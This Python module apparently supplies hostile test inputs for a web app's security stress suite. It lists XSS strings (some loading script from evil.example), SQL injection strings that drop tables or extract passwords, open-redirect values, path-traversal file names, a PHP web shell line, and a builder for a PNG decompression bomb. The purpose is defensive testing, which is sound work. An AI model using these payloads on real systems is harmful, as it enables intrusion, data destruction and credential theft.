"""Hostile input for the stress suite: what an attacker types into fields, query strings,
`next=` parameters, cookies and uploads. Data only, and small builders for hostile files."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

# Cross-site scripting, in every context a value can land in: element text, a quoted attribute,
# a URL attribute, a <textarea> or <title>, markdown; and template syntax that must stay text.
XSS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    '" hx-get="https://evil.example/" hx-trigger="load',
    '" x-init="alert(1)" x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "&#106;avascript:alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Log in</button></form>',
    "<style>*{display:none}</style>",
    "<input autofocus onfocus=alert(1)>",
    "</script><script>alert(1)</script>",
    '"; alert(1); //',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt> \u202eevil\u202c",
    "{{7*7}} {{ config }} {{ request.scope }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "[click](javascript:alert(1)) <javascript:alert(1)>",
    '![x](x" onerror="alert(1))',
    "`<img src=x onerror=alert(1)>` **<b>bold</b>**",
)

# Text a template engine would evaluate if it ever rendered a value as a template.
TEMPLATE_MARKERS = ("{{", "{%", "${", "#{", "<%=")

# SQL and LIKE trouble for search boxes and filters: quotes, comments, stacked statements,
# UNION, wildcards and the escape character, NUL, and very long strings.
SQL: tuple[str, ...] = (
    "'",
    "''",
    '"',
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE album; --",
    "'; DELETE FROM piccolo_user; --",
    "' UNION SELECT username, password FROM piccolo_user --",
    "') UNION SELECT NULL, NULL, NULL --",
    "' || (SELECT password FROM piccolo_user LIMIT 1) || '",
    "'; SELECT pg_sleep(5); --",
    "1' AND SLEEP(5) --",
    "/* comment */",
    "-- ",
    "%",
    "_",
    "%%",
    "%_%",
    "\\",
    "\\%",
    "\\_",
    "\\\\",
    "%' --",
    "*",
    "[a-z]",
    "^.*$",
    "$$ $$",
    "E'\\x27'",
    "\x00",
    "gp\x00us",
    "%00",
    "ORDER BY 1",
    "x' ESCAPE '!",
    "İstanbul ß ǅ",
    "\ufeff\u200b\u202e",
    "'" * 2000,
    "%_" * 2000,
    "a" * 20000,
)

# `next=` values that must never lead off the site.
REDIRECTS: tuple[str, ...] = (
    "//evil.example/",
    "///evil.example/",
    "////evil.example/",
    "https://evil.example/",
    "http://evil.example",
    "HTTPS://EVIL.EXAMPLE/",
    "http:/evil.example",
    "http:evil.example",
    "https:\\\\evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\\/evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "/\r\n/evil.example",
    " //evil.example",
    "%2F%2Fevil.example",
    "/%2F/evil.example",
    "/%5Cevil.example",
    "//evil.example@localhost",
    "https://localhost@evil.example/",
    "//localhost.evil.example/",
    "javascript:alert(1)",
    "JavaScript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//%65vil.example",
    "/\u3002evil.example",
    "//evil\u3002example",
    "/.evil.example",
    "evil.example",
)


def email_for(payload: str, number: int) -> str:
    """An address the registration's (deliberately loose) check accepts, carrying the payload:
    no spaces, one @; lower case, as it is stored."""
    local = "".join(c for c in payload if not c.isspace() and c != "@") or "x"
    return f"{local[:200]}{number}@hostile.example".lower()


def png(width: int = 8, height: int = 8, color: str = "teal") -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (width, height), color).save(output, format="PNG")
    return output.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A valid 1-bit PNG of width x height pixels, all zero, compressed to ~100 KB: what
    decoding it would cost is the point."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    row = b"\0" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", data)
        + _chunk(b"IEND", b"")
    )


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares width x height and holds one tiny, wrong IDAT: the declared size
    alone must be refused."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + _chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
# A GIF header that is also JavaScript: `GIF89a` parses as an identifier, the rest runs.
GIF_JS = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(document.domain);//" + b"\0" * 32
ZIP = (
    b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    b"\x00\x00\x00\x00\x08\x00\x00\x00evil.php<?php system($_GET['c']); ?>"
)
APPENDED = b"<script>alert('appended')</script>"


def hostile_files() -> dict[str, tuple[str, bytes, str, int]]:
    """What a file upload is refused for: label -> (file name, bytes, Content-Type, the site's
    status). Each lies about what it is, or is an image too large to decode."""
    return {
        "html named .png": ("photo.png", HTML, "image/png", 415),
        "svg named .png": ("photo.png", SVG, "image/png", 415),
        "svg as image/svg+xml": ("photo.svg", SVG, "image/svg+xml", 415),
        "pdf named .jpg": ("photo.jpg", PDF, "image/jpeg", 415),
        "php named .jpg": ("photo.jpg", b"<?php system($_GET['c']); ?>", "image/jpeg", 415),
        "zip named .webp": ("photo.webp", ZIP, "image/webp", 415),
        "gif/javascript polyglot": ("photo.gif", GIF_JS, "image/gif", 415),
        "png header, then html": ("photo.png", png()[:33] + HTML, "image/png", 415),
        "truncated png": ("photo.png", png(64, 64)[:80], "image/png", 415),
        "empty file": ("photo.png", b"", "image/png", 400),
        "png declaring 30000x30000": (
            "bomb.png",
            png_header_only(30_000, 30_000),
            "image/png",
            413,
        ),
        "png declaring 1x2^31": ("bomb.png", png_header_only(1, 2**31 - 1), "image/png", 413),
        "png bomb, 30000x30000 compressed": ("bomb.png", png_bomb(), "image/png", 413),
    }


# Names a browser could send with a valid image: none may reach a path, row or bucket key.
HOSTILE_NAMES: tuple[str, ...] = (
    "../../../../etc/passwd.png",
    "..%2F..%2Fetc%2Fpasswd.png",
    "/etc/passwd.png",
    "C:\\Windows\\win.ini.png",
    "..\\..\\boot.ini.png",
    "photo.png\0.php",
    "photo.php.png",
    ".htaccess.png",
    "CON.png",
    "photo.png;.php",
    '"><script>alert(1)</script>.png',
    "x" * 4096 + ".png",
)


def valid_png_with(appended: bytes) -> bytes:
    """A valid PNG with more data after IEND: a polyglot that image viewers still open."""
    return png(16, 16) + appended
